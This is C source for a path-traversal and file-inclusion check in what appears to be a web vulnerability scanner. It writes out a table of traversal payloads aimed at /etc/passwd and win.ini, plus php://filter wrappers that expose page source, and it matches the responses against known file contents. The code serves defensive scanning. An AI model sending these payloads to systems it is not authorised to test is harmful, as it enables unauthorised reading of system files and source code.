/* Active: a parameter names a file and may leave its directory (CWE-22, CWE-98).
 * Proof is the content of a file that every system of that kind has: the account
 * line of root, or a section of win.ini. It must be absent from the untouched page,
 * and a second, different file is read before the finding counts as certain.
 * Where a suffix is forced on (include($x . ".php")), PHP's filter wrapper shows the
 * source of the very page instead. */
#include "scan/checks/active_private.h"

#define UP "../../../../../../../../../../.."
#define UP_DOUBLED "....//....//....//....//....//....//....//....//....//....//"

struct target {
	const char *payload; /* %s: the file */
	const char *file, *other;
	bool windows;
};
static const struct target targets[] = {
	{ UP "%s", "/etc/passwd", "/etc/group", false },
	{ "%s", "/etc/passwd", "/etc/group", false },
	{ UP_DOUBLED "%s", "etc/passwd", "etc/group", false },
	{ "file://%s", "/etc/passwd", "/etc/group", false },
	{ UP "%s", "/windows/win.ini", "/windows/system.ini", true },
	{ "..\\..\\..\\..\\..\\..\\..\\..\\%s", "windows\\win.ini", "windows\\system.ini", true },
	{ UP "%s%%00", "/etc/passwd", "/etc/group", false },
};

/* A line "root:?:0:" of passwd or group; the whole line. */
static struct str unix_proof(struct str t)
{
	for (struct str rest = t;;) {
		ssize_t at = str_find(rest, STR("root:"));

		if (at < 0)
			return STR_NULL;
		struct str line = str_sub(rest, (size_t)at, (size_t)at + 80);
		ssize_t end = str_chr(line, '\n');

		if (end >= 0)
			line = str_sub(line, 0, (size_t)end);
		struct str fields = str_from(line, 5);
		ssize_t colon = str_chr(fields, ':');

		if (colon >= 0 && colon <= 1 &&
		    str_starts(str_from(fields, (size_t)colon), STR(":0:")))
			return str_trim(line);
		rest = str_from(rest, (size_t)at + 5);
	}
}

static struct str windows_proof(struct str t)
{
	static const char *const sections[] = { "[fonts]", "[extensions]", "[mci extensions]",
						"[drivers]", "[386Enh]" };

	if (!str_has(t, STR("16-bit app support")))
		return STR_NULL;
	for (size_t i = 0; i < ARRAY_SIZE(sections); i++) {
		ssize_t at = str_find(t, str_c(sections[i]));

		if (at >= 0)
			return str_sub(t, (size_t)at, (size_t)at + strlen(sections[i]));
	}
	return STR_NULL;
}

static struct str proof_in(const struct scan_exchange *x, bool windows)
{
	return windows ? windows_proof(active_content(x)) : unix_proof(active_content(x));
}

static bool send_file(struct probe *p, const struct target *t, const char *file,
		      const struct scan_exchange **ret)
{
	_cleanup_buf_ struct buf b = BUF_INIT(4096);
	struct str form = str_c(t->payload);
	ssize_t at = str_find(form, STR("%s"));

	buf_str(&b, str_sub(form, 0, (size_t)at));
	buf_c(&b, file);
	struct str tail = str_from(form, (size_t)at + 2);

	if (str_eq(tail, STR("%%00")))
		buf_char(&b, '\0');
	return probe_value(p, arena_str(probe_arena(p), buf_view(&b)), ret) == 0;
}

static bool try_target(struct probe *p, const struct target *t)
{
	const struct scan_exchange *x, *again;

	if (!send_file(p, t, t->file, &x))
		return false;
	struct str proof = proof_in(x, t->windows);

	if (!proof.ptr || proof_in(probe_base(p), t->windows).ptr)
		return false;
	/* Another file through the same hole: passwd and group differ, the page does not know both.
	 */
	bool sure = send_file(p, t, t->other, &again) && proof_in(again, t->windows).ptr != NULL &&
		    !str_eq(again->body, x->body);

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
	return true;
}

/* base64 of "<?php" and at least sixty characters of its like. */
static struct str encoded_source(struct str t)
{
	ssize_t at = str_find(t, STR("PD9waH"));
	size_t n = 0;

	if (at < 0)
		return STR_NULL;
	struct str s = str_from(t, (size_t)at);

	while (n < s.len &&
	       (ascii_alnum(s.ptr[n]) || s.ptr[n] == '+' || s.ptr[n] == '/' || s.ptr[n] == '='))
		n++;
	return n >= 60 ? str_sub(s, 0, n > 120 ? 120 : n) : STR_NULL;
}

static void try_filter(struct probe *p, const struct scan_point *pt)
{
	const struct scan_exchange *x, *again;
	struct str form = probe_printf(p, "php://filter/convert.base64-encode/resource=%.*s",
				       STR_ARG(pt->value));

	if (str_empty(pt->value) || pt->value.len > 100 || probe_value(p, form, &x) < 0)
		return;
	struct str proof = encoded_source(active_content(x));

	if (!proof.ptr || encoded_source(active_content(probe_base(p))).ptr)
		return;
	/* Another filter must show it otherwise. */
	form = probe_printf(p, "php://filter/read=string.rot13/resource=%.*s", STR_ARG(pt->value));
	bool sure = probe_value(p, form, &again) == 0 && !encoded_source(active_content(again)).ptr;

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
}

/* Numbers and long prose do not name files; they cost only the plain form. */
static bool may_name_file(const struct scan_point *pt)
{
	int64_t n;

	return pt->value.len <= 200 && str_to_i64(pt->value, &n) < 0;
}

static void probe_file(struct probe *p, const struct scan_point *pt)
{
	size_t tries = ARRAY_SIZE(targets);

	if (pt->where == WHERE_HEADER)
		return;
	if (probe_mode(p) != SCAN_DEEP)
		tries = may_name_file(pt) ? 4 : 1;
	for (size_t i = 0; i < tries && !probe_reported(p); i++)
		if (try_target(p, &targets[i]))
			return;
	if (may_name_file(pt) && !probe_reported(p))
		try_filter(p, pt);
}

const struct scan_check check_path_traversal = {
	.id = "path-traversal",
	.title_zh = "路径遍历或文件包含",
	.title_en = "Path traversal or file inclusion",
	.severity = SEVERITY_HIGH,
	.cwe = 22,
	.owasp = "A01:2021",
	.modes = SCAN_STANDARD_UP,
	.place = PLACE_POINT,
	.on_point = probe_file,
};
